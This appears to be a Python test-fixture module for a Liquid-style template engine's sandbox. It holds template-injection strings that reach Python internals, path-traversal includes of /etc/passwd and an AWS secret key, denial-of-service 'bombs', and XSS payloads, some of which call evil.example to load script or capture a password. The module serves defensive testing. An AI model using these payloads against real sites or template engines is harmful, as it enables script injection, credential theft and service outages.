"""
Templates and values that want what no template may have: Python, files, time, other people's HTML.

Each bomb would run for seconds, or for ever, without limits.
"""

from collections.abc import Mapping
from typing import Any

REACHING = (
    "{{ user.__class__ }}",
    "{{ user.__class__.__mro__ }}",
    "{{ user['__class__'] }}",
    '{{ user["__init__"]["__globals__"] }}',
    "{{ user.name.__class__.__base__.__subclasses__ }}",
    "{{ user.name.format }}",
    "{{ user.name.join }}",
    "{{ user.tags.append }}",
    "{{ user.tags.__len__ }}",
    "{{ user.keys }}",
    "{{ user.items }}",
    "{{ user.copy }}",
    "{{ user.pop }}",
    "{{ user.tags.pop }}",
    "{{ user.price.real }}",
    "{{ user.price.as_integer_ratio }}",
    "{{ self }}",
    "{{ self.env }}",
    "{{ context }}",
    "{{ context.env.loader }}",
    "{{ environment }}",
    "{{ template }}",
    "{{ globals }}",
    "{{ builtins }}",
    "{{ __builtins__ }}",
    "{{ __import__ }}",
    "{{ os.environ }}",
    "{{ settings }}",
    "{{ request }}",
    "{{ 'x' | attr: '__class__' }}",
    "{{ user | map: '__class__' }}{{ user.nothing }}",
    "{{ user.tags | map: '__class__' | first }}{{ user.nothing }}",
    "{% for f in user.__dict__ %}{{ f }}{% endfor %}{{ user.__dict__ }}",
    "{% assign c = user.__class__ %}{{ c }}",
    "{% for i in user.tags %}{{ forloop.__class__ }}{% endfor %}",
    "{% for i in user.tags %}{{ forloop.parentloop.env }}{% endfor %}",
    "{{ forloop.it }}",
    "{% tablerow i in user.tags %}{{ tablerowloop.__class__ }}{% endtablerow %}",
    "{% capture x %}a{% endcapture %}{{ x.__class__ }}",
    "{{ user[user.key] }}",
    "{% python %}import os{% endpython %}",
    "{% load os %}",
    "{% import 'os' %}",
    "{% extends 'base' %}",
    "{% macro x %}{% endmacro %}",
    "{% call x %}",
    "{% with a: 1 %}{% endwith %}",
    "{{ 'now' | strftime }}",
    "{{ user.name | safe }}",
    "{{ user.name | raw }}",
    "{{ 7 | exec }}",
)
"""None of these may come to a text."""

FILES = (
    "{% render '/etc/passwd' %}",
    "{% render '../../../../etc/passwd' %}",
    "{% render 'a/../../etc/passwd' %}",
    "{% render '..\\\\..\\\\secret' %}",
    "{% render 'file:///etc/passwd' %}",
    "{% render 'https://example.com/x' %}",
    "{% render '.' %}",
    "{% render '' %}",
    "{% render 'part.liquid\\0' %}",
    "{% include '/etc/passwd' %}",
    "{% include user.path %}",
    "{% include 'env:AWS_SECRET_ACCESS_KEY' %}",
)
"""Names of files that are no templates of the workspace."""

HOSTILE: Mapping[str, Any] = {
    "user": {
        "id": "u",
        "name": "Ann",
        "price": 19.9,
        "key": "__class__",
        "path": "/etc/passwd",
        "big": "x" * 8000,
        "tags": ["a", "b"],
        "words": "b a " * 2000,
        "many": [{"k": n % 7, "s": "s" * 10} for n in range(3000)],
        "deep": {},
        "open": "<" * 8000,
        "comments": "<!--" * 2000,
        "num": 10**37,
    },
    "trigger": {"properties": {}},
    "now": "2026-02-02T10:30:00Z",
}
"""Values as large as an event may be (SPEC V6)."""

PARTS: Mapping[str, str] = {
    "itself": "{% render 'itself' %}{% render 'itself' %}",
    "included": "{% include 'included' %}{% include 'included' %}",
    "one": "{{ x.k }}",
    "empty": "",
    "wide": "{% if a == 1 and a == 2 %}{% endif %}" * 500,
    **{f"d{n}": f"{{% render 'd{n - 1}' %}}" * 2 if n else "x" for n in range(19)},
    **{f"i{n}": f"{{% include 'i{n - 1}' %}}" * 2 if n else "x" for n in range(19)},
}
"""The templates beside a bomb."""


def _times(variable: str, filters: str, count: int) -> str:
    return f"{{% assign a = {variable} %}}" + f"{{% assign a = a | {filters} %}}" * count


_LARGE = "{% assign a = user.big | append: user.big | append: user.big | append: user.big %}"
_DOUBLED = "{% assign l = a | split: ',' %}" + "{% assign l = l | concat: l %}" * 12
_LOOP = "{% for i in (1..9999) %}"
_AND = " and ".join(["1 == 1"] * 150)

BOMBS: Mapping[str, str] = {
    "a long loop": "{% for i in (1..3000000) %}{{ i }}{% endfor %}",
    "a range from behind": "{% for i in (1..99999999) reversed %}{% endfor %}",
    "the end of a range": "{% for i in (1..999999999) offset: 999999990 %}{% endfor %}",
    "a range beyond 2**63": "{% for i in (1..99999999999999999999999999) %}{% endfor %}",
    "a search in a range": "{% if (1..99999999999) contains 1.5 %}{% endif %}",
    "a range kept": "{% assign r = (1..99999999999) %}{% if r contains 1.5 %}{% endif %}",
    "a range joined": "{{ (1..99999999) | join: ',' }}",
    "a range sorted": "{{ (1..10000) | sort | reverse | uniq | join: ',' }}",
    "loops in loops": "{% for i in (1..1000) %}{% for j in (1..1000) %}x{% endfor %}{% endfor %}",
    "loops after loops": "{% for i in (1..9999) %}{% endfor %}" * 1500,
    "a long body": _LOOP + "{% if true %}{% endif %}" * 1900 + "{% endfor %}",
    "a long condition": _LOOP + f"{{% if {_AND} %}}{{% endif %}}{{% endfor %}}",
    "a condition without end": "{% if " + " and ".join(["1 == 1"] * 6000) + " %}{% endif %}",
    "a wide table": "{% tablerow i in (1..9999) cols:3 %}{{ i }}{% endtablerow %}" * 2,
    "append doubles": _times("'xxxxxxxxxx'", "append: a", 40),
    "replace multiplies": _times("'xxxxxxxxxx'", "replace: 'x', 'xxxxxxxxxx'", 20),
    "concat doubles": _times("'a,b,c' | split: ','", "concat: a", 40),
    "capture doubles": "{% assign a = 'xxxxxxxxxx' %}"
    + "{% capture a %}{{ a }}{{ a }}{% endcapture %}" * 40,
    "append in a loop": "{% assign a = '' %}"
    + _LOOP
    + "{% assign a = a | append: user.big %}{% endfor %}",
    "numbers squared": _times("999999", "times: a", 40),
    "numbers squared in a loop": "{% assign a = 999999 %}"
    + _LOOP
    + "{% assign a = a | times: a %}{% endfor %}",
    "a number out of sight": "{{ user.num | times: user.num | times: user.num }}",
    "infinity": "{{ '1e308' | times: '1e308' | round }}",
    "a number of text": "{{ '1e999999999' | plus: 1 | round }}",
    "sums without end": "{{ '1e999999999,1e-999999999' | split: ',' | sum }}",
    "thousands of digits": "{{ '" + "9" * 1900 + "' | plus: 1 | times: 2 }}",
    "sorting again": "{{ user.words | split: ' ' | sort | join: ' ' }}" * 50,
    "single letters": "{{ user.big | split: '' | reverse | sort | uniq | join: '' }}" * 60,
    "each with each": "{{ user.many | uniq | size }}{{ user.many | uniq: 'k' | size }}" * 20,
    "natural order": "{{ user.many | sort_natural: 's' | size }}" * 60,
    "looking for some": "{{ user.many | where: 'k', 3 | size }}" * 100,
    "mapping all": "{{ user.many | map: 's' | join: '' }}" * 100,
    "stripping open tags": "{{ user.open | append: '>' | strip_html | size }}" * 60,
    "stripping comments": "{{ user.comments | append: '>' | strip_html | size }}" * 60,
    "encoding again": "{{ user.open | url_encode | url_encode | size }}" * 60,
    "escaping again": "{{ user.open | escape | escape | escape }}" * 30,
    "a wide date": "{{ 'now' | date: '%99999999d' }}",
    "a long date": "{{ 'now' | date: '" + "%A" * 400 + "' }}",
    "no date": "{{ user.big | date: '%Y' }}",
    "much JSON": "{{ user.many | json }}" * 40,
    "rendering itself": "{% render 'itself' %}",
    "including itself": "{% include 'included' %}",
    "a tree of partials": "{% render 'd18' %}",
    "a tree of includes": "{% include 'i18' %}",
    "partials in a loop": _LOOP + "{% render 'empty' %}{% endfor %}",
    "long partials in a loop": _LOOP + "{% render 'wide' %}{% endfor %}",
    "long includes in a loop": _LOOP + "{% include 'wide' %}{% endfor %}",
    "partials for many": "{% render 'one' for user.many as x %}" * 4,
    "too many tags": "{{ a }}" * 9000,
    "open outputs": "{{" * 30000,
    "open tags": "{% x " * 13000,
    "open raw": "{% raw %}" * 3900,
    "open doc": "{% doc %}" * 3900,
    "open comments": "{% comment %}" * 1900,
    "nested blocks": "{% if a %}" * 3900,
    "spaces in outputs": ("{{" + " " * 1900 + "}}") * 30,
    "spaces in tags": ("{% a" + " " * 1900 + "%}") * 30,
    "only braces": "{" * 60000,
    "only tag marks": "{%-" * 20000,
    "many parentheses": "{% if " + "(" * 600 + "a" + ")" * 600 + " %}{% endif %}",
    "many brackets": "{{ a" + "[" * 900 + "1" + "]" * 900 + " }}",
    "a long path": _LOOP + "{{ user" + "['deep']" * 100 + " }}{% endfor %}",
    "a large file": "x" * 70000,
    "a large output": "{{ user.big }}" * 3000,
    "a large list printed": "{{ user.many }}",
    "cases without end": _LOOP
    + "{% case i %}{% when "
    + ",".join(map(str, range(450)))
    + " %}{% endcase %}{% endfor %}",
    "searching lists": _LOOP + "{% if user.many contains 'x' %}{% endif %}{% endfor %}",
    "replacing by much": _LARGE + "{{ a | replace: 'x', a | size }}",
    "joining by much": _LARGE + "{{ user.many | join: a | size }}",
    "printing many": _LARGE + _DOUBLED + "{{ l }}",
    "joining many": _LARGE + _DOUBLED + "{{ l | join: ',' | size }}",
    "writing many": "{% assign l = user.many %}"
    + "{% assign l = l | concat: l %}" * 1
    + "{{ l | json | size }}",
    "comparing texts": _LOOP + "{% if user.big == user.words %}{% endif %}{% endfor %}",
}
"""Each must end as an error, and soon."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<table background=javascript:alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"style="background:url(//evil.example)',
    "x' || '' || '",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\uff1cscript\uff1e<b>",
    "{{ user.id }}<b>",
    "{% render 'x' %}<b>",
    "]]>--><b>",
)
"""Names that people might give themselves."""

PLACES = (
    "[{{ user.name }}]",
    "[{{ user.name | upcase }}]",
    "[{{ user.name | append: '!' }}]",
    "[{{ user.name | prepend: '!' }}]",
    "[{{ '!' | append: user.name }}]",
    "[{{ user.name | split: '' | join: '' }}]",
    "[{{ user.name | json }}]",
    "[{{ user.name | url_encode | url_decode }}]",
    "[{{ user.name | base64_encode | base64_decode }}]",
    "[{{ user.name | escape_once }}]",
    "[{{ user.name | newline_to_br }}]",
    "[{{ user.name | default: 'x' }}]",
    "[{% assign n = user.name %}{{ n }}]",
    "[{% capture n %}{{ user.name }}{% endcapture %}{{ n }}]",
    "[{% capture n %}{{ user.name }}{% endcapture %}{{ n | replace: '&', '&' }}]",
    "[{% for n in user.names %}{{ n }}{% endfor %}]",
    "[{{ user.names }}]",
    "[{{ user.names | join }}]",
    "[{% cycle user.name %}]",
    "[{% echo user.name %}]",
    "[{% render 'part', n: user.name %}]",
    "[{% include 'part', n: user.name %}]",
)
"""Where such a name may come to stand in a page; `part` prints its `n`."""
